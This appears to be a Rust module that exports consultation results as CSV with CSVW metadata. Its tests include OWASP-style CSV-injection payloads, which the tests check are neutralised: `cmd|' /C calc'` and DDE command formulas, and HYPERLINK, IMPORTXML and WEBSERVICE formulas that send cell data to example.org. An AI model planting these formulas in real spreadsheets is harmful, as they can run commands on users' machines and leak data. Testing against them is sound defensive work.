//! Tables as CSV (RFC 4180: UTF-8, CRLF) and their description as CSVW.
//!
//! Files begin with a byte order mark, by which spreadsheets know UTF-8, and every text is quoted,
//! so that no program takes `1-2` for a date without being told. Those of publications from before
//! [`FORMAT_OF_QUOTED_CSV`] have no mark, and quotes where they are needed: a file that is rendered
//! again for a removed text differs in that text alone.
//!
//! CSVW: <https://www.w3.org/TR/tabular-metadata/>.

use super::notes::{PublicationNote, notes};
use super::sheet::{self, ColumnContent, FileSheet, SheetColumn, SheetValue, without_formulas};
use super::{HIDDEN, json};
use crate::domain::publication::{FORMAT_OF_GROUPS, FORMAT_OF_QUOTED_CSV, PublishedText, Snapshot};
use chrono::NaiveDate;
use csv::{Terminator, WriterBuilder};
use serde::Serialize;

/// All headline tables, see [`sheet::results`].
pub fn results(snapshot: &Snapshot) -> String {
    write(&sheet::results(snapshot), snapshot.format)
}

/// What became of every response, see [`sheet::balance`].
pub fn balance(snapshot: &Snapshot) -> String {
    write(&sheet::balance(snapshot), snapshot.format)
}

/// What people said about themselves, see [`sheet::equality`].
pub fn equality(snapshot: &Snapshot) -> String {
    write(&sheet::equality(snapshot), snapshot.format)
}

/// The published answers in words, see [`sheet::texts`].
pub fn texts(snapshot: &Snapshot, texts: &[PublishedText]) -> String {
    write(&sheet::texts(snapshot, texts), snapshot.format)
}

/// A table with its header, as files of a publication of a format have it.
pub fn write(sheet: &FileSheet, format: u32) -> String {
    if format < FORMAT_OF_QUOTED_CSV {
        return written_before(sheet);
    }
    let mut out = "\u{feff}".to_owned();
    let header = sheet.columns.iter().map(|column| quoted(column.name));
    push_row(&mut out, header);
    for row in &sheet.rows {
        let cells = row.iter().map(|value| match value {
            SheetValue::Text(text) => quoted(&without_formulas(text)),
            other => other.characters().into_owned(),
        });
        push_row(&mut out, cells);
    }
    out
}

fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

fn push_row(out: &mut String, cells: impl Iterator<Item = String>) {
    for (place, cell) in cells.enumerate() {
        if place > 0 {
            out.push(',');
        }
        out.push_str(&cell);
    }
    out.push_str("\r\n");
}

/// The same as it was written before [`FORMAT_OF_QUOTED_CSV`].
fn written_before(sheet: &FileSheet) -> String {
    let mut writer = WriterBuilder::new()
        .terminator(Terminator::CRLF)
        .from_writer(vec![]);
    let header = sheet.columns.iter().map(|column| column.name);
    writer
        .write_record(header)
        .expect("memory takes every record");
    for row in &sheet.rows {
        writer
            .write_record(row.iter().map(|value| value.characters().into_owned()))
            .expect("all records have the header's length");
    }
    let bytes = writer.into_inner().expect("memory takes every byte");
    String::from_utf8(bytes).expect("text in, text out")
}

/// What the CSV files hold: `csv-metadata.json`, the name under which CSVW readers look for it.
pub fn csvw(snapshot: &Snapshot) -> String {
    let tables = described_sheets(snapshot);
    json::pretty(&TableGroup {
        context: ("http://www.w3.org/ns/csvw", CsvwLanguage { language: "en" }),
        title: &snapshot.consultation.title,
        publisher: &snapshot.consultation.owner,
        issued: snapshot.published_on,
        tables: tables
            .iter()
            .map(|(url, sheet)| TableDescription::of(snapshot.format, url, sheet))
            .collect(),
        notes: notes(snapshot),
    })
}

/// The tables of a publication by the names of their files, for what describes their columns: those
/// that hold words are empty.
pub(super) fn described_sheets(snapshot: &Snapshot) -> Vec<(&'static str, FileSheet)> {
    let mut tables = vec![
        ("results.csv", sheet::results(snapshot)),
        ("balance.csv", sheet::balance(snapshot)),
        ("texts.csv", sheet::texts(snapshot, &[])),
    ];
    if !snapshot.equality.is_empty() {
        tables.push(("equality.csv", sheet::equality(snapshot)));
    }
    tables
}

#[derive(Serialize)]
struct TableGroup<'a> {
    #[serde(rename = "@context")]
    context: (&'static str, CsvwLanguage),
    #[serde(rename = "dc:title")]
    title: &'a str,
    #[serde(rename = "dc:publisher")]
    publisher: &'a str,
    #[serde(rename = "dc:issued")]
    issued: NaiveDate,
    tables: Vec<TableDescription>,
    notes: Vec<PublicationNote>,
}

#[derive(Serialize)]
struct CsvwLanguage {
    #[serde(rename = "@language")]
    language: &'static str,
}

#[derive(Serialize)]
struct TableDescription {
    url: &'static str,
    #[serde(rename = "dc:title")]
    title: &'static str,
    #[serde(rename = "dc:description")]
    about: &'static str,
    #[serde(rename = "tableSchema")]
    schema: TableSchema,
}

#[derive(Serialize)]
struct TableSchema {
    columns: Vec<ColumnDescription>,
}

#[derive(Serialize)]
struct ColumnDescription {
    name: &'static str,
    titles: &'static str,
    datatype: &'static str,
    #[serde(skip_serializing_if = "Option::is_none")]
    null: Option<Nulls>,
    #[serde(rename = "dc:description")]
    about: &'static str,
}

/// What stands where there is no value.
#[derive(Serialize)]
#[serde(untagged)]
enum Nulls {
    One(&'static str),
    Either([&'static str; 2]),
}

impl TableDescription {
    fn of(format: u32, url: &'static str, sheet: &FileSheet) -> Self {
        let columns = sheet
            .columns
            .iter()
            .map(|column| ColumnDescription::of(format, column))
            .collect();
        Self {
            url,
            title: sheet.title,
            about: sheet.about,
            schema: TableSchema { columns },
        }
    }
}

impl ColumnDescription {
    fn of(format: u32, column: &SheetColumn) -> Self {
        let (datatype, null) = match column.holds {
            ColumnContent::Text => ("string", None),
            ColumnContent::Whole => ("integer", None),
            ColumnContent::Figure if format < FORMAT_OF_GROUPS => {
                ("integer", Some(Nulls::One(HIDDEN)))
            }
            ColumnContent::Figure => ("integer", Some(Nulls::Either([HIDDEN, ""]))),
            ColumnContent::Share if format == 1 => ("decimal", Some(Nulls::One(HIDDEN))),
            ColumnContent::Share => ("decimal", Some(Nulls::Either([HIDDEN, ""]))),
            ColumnContent::Mean => ("decimal", None),
            ColumnContent::Day => ("date", None),
        };
        Self {
            name: column.name,
            titles: column.name,
            datatype,
            null,
            about: column.about_in(format),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::sample;
    use super::*;
    use crate::domain::publication::TextBody;

    /// What spreadsheets have been made to run, after OWASP's page on CSV injection.
    const FORMULAS: [&str; 20] = [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(cmd|'/c calc'!A0)",
        "=HYPERLINK(\"http://example.org?x=\"&A1,\"click\")",
        "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
        "=WEBSERVICE(\"http://example.org\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=\"a\",\"=1\"",
        "-",
        "＝1+1",
        "＋1",
        "＠SUM(1)",
    ];

    /// The same past what nobody sees, and where another separator would begin a cell.
    const HIDDEN_FORMULAS: [(&str, &str); 9] = [
        ("\u{200b}=1+1", "'\u{200b}=1+1"),
        ("\u{ad}\u{feff}@SUM(1)", "'\u{ad}\u{feff}@SUM(1)"),
        ("\u{a0}-1", "'\u{a0}-1"),
        (" =1+1", "' =1+1"),
        ("\"=1+1", "'\"=1+1"),
        ("a;=1+1", "a;'=1+1"),
        ("a; \u{200b}+1;b", "a;' \u{200b}+1;b"),
        ("a\t@SUM(1)", "a\t'@SUM(1)"),
        ("a\n-1", "a\n'-1"),
    ];

    fn quoted_text(words: &str) -> String {
        let mut text = sample::texts().remove(0);
        text.body = TextBody::Words {
            words: words.to_owned(),
            redacted: false,
        };
        texts(&sample::quoted(), &[text])
    }

    fn one_text(words: &str) -> String {
        let mut text = sample::texts().remove(0);
        text.body = TextBody::Words {
            words: words.to_owned(),
            redacted: false,
        };
        texts(&sample::snapshot(), &[text])
    }

    fn read(file: &str, name: &str) -> String {
        let mut reader = csv::Reader::from_reader(file.as_bytes());
        let place = reader
            .headers()
            .unwrap()
            .iter()
            .position(|header| header == name)
            .unwrap();
        let records: Vec<csv::StringRecord> =
            reader.records().map(|record| record.unwrap()).collect();
        assert_eq!(records.len(), 1);
        records[0][place].to_owned()
    }

    #[test]
    fn no_cell_begins_like_a_formula() {
        for formula in FORMULAS {
            assert_eq!(read(&one_text(formula), "words"), format!("'{formula}"));
        }
    }

    #[test]
    fn no_cell_begins_like_a_formula_past_what_nobody_sees_or_by_another_separator() {
        for formula in FORMULAS {
            let written = read(&quoted_text(formula), "words");
            assert!(written.starts_with('\''), "{written:?}");
        }
        for (formula, written) in HIDDEN_FORMULAS {
            assert_eq!(read(&quoted_text(formula), "words"), written);
        }
        for plain in ["a=b", "a - b", "e.g. x;y", "a\nb", "[c]", "é", "1-2"] {
            assert_eq!(read(&quoted_text(plain), "words"), plain);
        }
    }

    #[test]
    fn a_file_begins_with_a_mark_of_utf_8_and_quotes_every_text() {
        let file = quoted_text("Wait; \"stop\"\nthere");
        let (header, row) = file.split_once("\r\n").unwrap();
        assert!(
            header.starts_with("\u{feff}\"quote\",\"question\","),
            "{header}"
        );
        assert!(row.contains(",\"Wait; \"\"stop\"\"\nthere\","), "{row}");
        assert_eq!(read(&file, "words"), "Wait; \"stop\"\nthere");
        let figures = results(&sample::quoted());
        let line = figures
            .lines()
            .find(|line| line.contains("\"ban\""))
            .unwrap_or_else(|| panic!("{figures}"));
        assert!(line.contains(",235,"), "figures are not quoted: {line}");
        assert!(
            !balance(&sample::snapshot()).contains(['\u{feff}', '"']),
            "not before"
        );
    }

    #[test]
    fn no_cell_of_any_file_begins_like_a_formula() {
        let mut snapshot = sample::snapshot();
        snapshot.questions[0].text = "=question".into();
        snapshot.questions[0].tables[0].rows[0].label = "@option".into();
        snapshot.consultation.attribution = Some("+source".into());
        let mut published = sample::texts();
        for text in &mut published {
            text.organisation = Some("-name".into());
        }
        for file in [
            results(&snapshot),
            balance(&snapshot),
            texts(&snapshot, &published),
        ] {
            let mut reader = csv::Reader::from_reader(file.as_bytes());
            for record in reader.records() {
                assert!(
                    record
                        .unwrap()
                        .iter()
                        .all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r']))
                );
            }
        }
    }

    #[test]
    fn quotes_commas_and_line_ends_read_back() {
        for words in [
            "a, b",
            "\"quoted\"",
            "two\nlines",
            "a\r\nb",
            "tab\tinside",
            "é 語 🚓",
            "\"\"",
            ",",
            "'",
            "x\"y,\nz",
        ] {
            assert_eq!(read(&one_text(words), "words"), words);
        }
    }

    #[test]
    fn lines_end_in_crlf() {
        let file = balance(&sample::snapshot());
        assert!(file.ends_with("\r\n"));
        assert_eq!(file.matches('\n').count(), file.matches("\r\n").count());
    }

    #[test]
    fn the_description_names_every_column_in_order() {
        let described: serde_json::Value =
            serde_json::from_str(&csvw(&sample::snapshot())).unwrap();
        let snapshot = sample::snapshot();
        let files = [
            results(&snapshot),
            balance(&snapshot),
            texts(&snapshot, &[]),
            equality(&snapshot),
        ];
        assert_eq!(described["tables"].as_array().unwrap().len(), files.len());
        for (table, file) in described["tables"].as_array().unwrap().iter().zip(files) {
            let columns = table["tableSchema"]["columns"].as_array().unwrap();
            let names: Vec<&str> = columns
                .iter()
                .map(|column| column["titles"].as_str().unwrap())
                .collect();
            assert_eq!(names.join(","), file.lines().next().unwrap());
        }
    }

    #[test]
    fn a_hidden_table_is_one_line_without_figures() {
        let file = results(&sample::snapshot());
        let line = file
            .lines()
            .find(|line| line.contains("small-base"))
            .unwrap();
        assert_eq!(
            line,
            "example-maps,2,2027-02-12,agree,Do you agree with the \
             pilot?,,,police,,,[c],[c],,7,small-base,2"
        );
    }
}
